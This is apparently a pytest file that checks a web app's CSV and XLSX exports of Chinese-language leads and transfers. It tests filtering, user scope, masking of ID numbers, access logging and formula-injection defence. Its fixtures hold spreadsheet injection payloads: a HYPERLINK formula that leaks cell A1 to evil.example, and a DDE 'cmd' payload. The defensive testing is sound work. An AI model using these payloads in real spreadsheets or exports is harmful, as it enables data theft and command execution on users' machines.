"""Exports of the lists as CSV and XLSX: the list's filters and the user's scope, masked IDs, the access log,
and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from clueloop.web.routes.exports import cell
from clueloop.workflow import leads, transfers
from tests.workflow.conftest import make_lead, make_run

from .conftest import IDS, Loop
from .support import ORGAN, OTHER_ORGAN, login

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
CMD = "+cmd|' /C calc'!A0"
ARITHMETIC = "-1+1"
SUM = "@SUM(A1:A9)"
EVIL_IDS = ["44030119800101123X", "440301198001011256"]


def rows(web: TestClient, url: str, **params: str) -> list[list[Any]]:
    """The exported table (header first), read back as Excel would read it."""
    r = web.get(url, params=params)
    assert r.status_code == 200, r.text
    if url.endswith(".csv"):
        assert r.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
        return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book.worksheets[0]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula anywhere
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def column(table: list[list[Any]], name: str) -> list[Any]:
    at = table[0].index(name)
    return [row[at] for row in table[1:]]


@pytest.fixture
def evil(loop: Loop) -> Loop:
    """Leads, a transfer and a recommendation whose text looks like spreadsheet formulas."""
    with loop.transaction() as s:
        found = [
            make_lead("evil", [EVIL_IDS[0]], title=HYPERLINK, name=CMD),
            make_lead("evil", [EVIL_IDS[1]], title=ARITHMETIC, name=SUM),
        ]
        leads.record_run(s, make_run("r2"), found, "系统")
        answered = loop.transfer(s, loop.ready, ORGAN, standard=ARITHMETIC)
        transfers.move(s, answered.id, "已反馈", "liaison", text=f"{SUM} 涉及 {IDS[0]}")
        loop.transfer(s, loop.spare, OTHER_ORGAN)
        loop.recommend(s, HYPERLINK, issue=True)
        loop.recommend(s, ORGAN, issue=False)
    return loop


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lead_exports_follow_the_filters_mask_ids_and_neutralise_formulas(evil: Loop, fmt: str) -> None:
    web = evil.client
    login(web, "wang")
    table = rows(web, f"/leads/export.{fmt}", model="evil")
    assert len(table) == 3 and table[0][:3] == ["编号", "模型", "对象"]
    assert sorted(column(table, "标题")) == sorted(["'" + HYPERLINK, "'" + ARITHMETIC])
    assert sorted(column(table, "对象")) == sorted(["'" + CMD, "'" + SUM])
    assert column(table, "证件号码") == ["440301********1256", "440301********123X"]  # newest first
    flat = json.dumps(table, ensure_ascii=False)
    assert not any(i in flat for i in EVIL_IDS + IDS)
    assert len(rows(web, f"/leads/export.{fmt}")) == 1 + len(IDS) + len(EVIL_IDS)
    assert len(rows(web, f"/leads/export.{fmt}", state="成案")) == 3
    log = (evil.home / "logs" / "access.jsonl").read_text(encoding="utf-8").splitlines()
    entry = json.loads(log[-1])
    assert {
        "action": "web:export",
        "user": "wang",
        "list": "线索",
        "format": fmt,
        "rows": 2,
    }.items() <= entry.items()
    login(web, "liaison")
    assert len(rows(web, f"/leads/export.{fmt}")) == 2  # only the lead transferred to their organ


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_transfer_and_recommendation_exports_respect_filters_and_scope(evil: Loop, fmt: str) -> None:
    web = evil.client
    login(web, "wang")
    everything = rows(web, f"/transfers/export.{fmt}")
    assert len(everything) == 3
    answered = rows(web, f"/transfers/export.{fmt}", state="已反馈")
    assert len(answered) == 2 and column(answered, "移送依据") == ["'" + ARITHMETIC]
    assert column(answered, "反馈内容") == [f"'{SUM} 涉及 110101********1234"]
    assert len(rows(web, f"/transfers/export.{fmt}", overdue="1")) == 1  # nothing is overdue: the header
    issued = rows(web, f"/recommendations/export.{fmt}", state="已发出")
    assert (
        column(issued, "被建议单位") == ["'" + HYPERLINK]
        and len(rows(web, f"/recommendations/export.{fmt}")) == 3
    )
    assert len(rows(web, f"/cases/export.{fmt}")) == 1

    login(web, "liaison")
    mine = rows(web, f"/transfers/export.{fmt}")
    assert column(mine, "接收单位") == [ORGAN]
    assert len(rows(web, f"/recommendations/export.{fmt}")) == 1  # the draft to their organ is not theirs yet
    assert web.get(f"/cases/export.{fmt}").status_code == 403


def test_cells_that_start_like_formulas_are_quoted() -> None:
    for text in (HYPERLINK, CMD, ARITHMETIC, SUM, "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell("张三 =1") == "张三 =1" and cell(-1) == -1 and cell(None) == "" and cell(True) == "是"


def test_an_unknown_export_format_is_refused(loop: Loop) -> None:
    login(loop.client, "wang")
    assert loop.client.get("/transfers/export.pdf").status_code == 422
